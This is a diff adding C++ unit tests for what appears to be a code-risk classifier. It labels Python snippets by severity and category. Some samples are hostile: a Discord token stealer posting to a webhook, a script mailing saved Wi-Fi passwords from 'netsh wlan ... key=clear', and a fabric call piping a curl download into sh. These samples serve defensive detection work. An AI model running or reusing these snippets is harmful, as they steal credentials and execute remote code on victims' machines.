@@ -192,5 +192,51 @@ TEST(NinthRoundClasses, ArgparseTypeConversionsApply) {
   for (const auto& c : cases) check(c);
 }
 
+TEST(NinthRoundClasses, WindowsProfilePathsAreTheHome) {
+  const Case cases[] = {
+      {"Discord tokens under %APPDATA% in backslash paths, posted to a webhook", B,
+       "import os, re, json\nfrom urllib.request import Request, urlopen\n"
+       "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\ntokens = []\n"
+       "for name in os.listdir(path):\n"
+       "    tokens += re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', open(path + '\\\\' + name, errors='ignore').read())\n"
+       "urlopen(Request('https://example.net/hook', data=json.dumps({'content': tokens}).encode()))\n",
+       "EXFILTRATION"},
+      {"an application's own settings under %APPDATA% read and used locally", L,
+       "import os, json\ncfg = os.path.join(os.getenv('APPDATA'), 'MyTool', 'settings.json')\n"
+       "print(json.load(open(cfg)).get('theme', 'light'))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(NinthRoundClasses, SavedWifiPasswordsAreSecrets) {
+  const Case cases[] = {
+      {"netsh wlan key=clear output mailed", B,
+       "import subprocess, smtplib\n"
+       "out = subprocess.check_output('netsh wlan show profile name=\"home\" key=clear', shell=True).decode()\n"
+       "s = smtplib.SMTP('smtp.example.com', 587)\ns.sendmail('a@example.com', 'b@example.com', out)\n",
+       "EXFILTRATION"},
+      {"netsh wlan profile names printed", M,
+       "import subprocess\nprint(subprocess.check_output('netsh wlan show profiles', shell=True).decode())\n",
+       "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(NinthRoundClasses, FabricCommandsAreTheCodesOwn) {
+  const Case cases[] = {
+      {"fabric.api run of sudo on the managed host", H,
+       "from fabric.api import *\nenv.hosts = ['web1.example.com']\n"
+       "def deploy():\n    with cd('/srv/app'):\n        run('git pull')\n    run('sudo supervisorctl restart app')\n",
+       "PRIVILEGE-ESCALATION"},
+      {"fabric Connection.run of a download piped to sh", B,
+       "from fabric import Connection\nc = Connection('web1.example.com')\n"
+       "c.run('curl -fsSL http://203.0.113.4/x.sh | sh')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"fabric Connection.run of git pull", M,
+       "from fabric import Connection\nc = Connection('web1.example.com')\nc.run('cd ~/app && git pull')\n", "RUNS-PROCESS"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
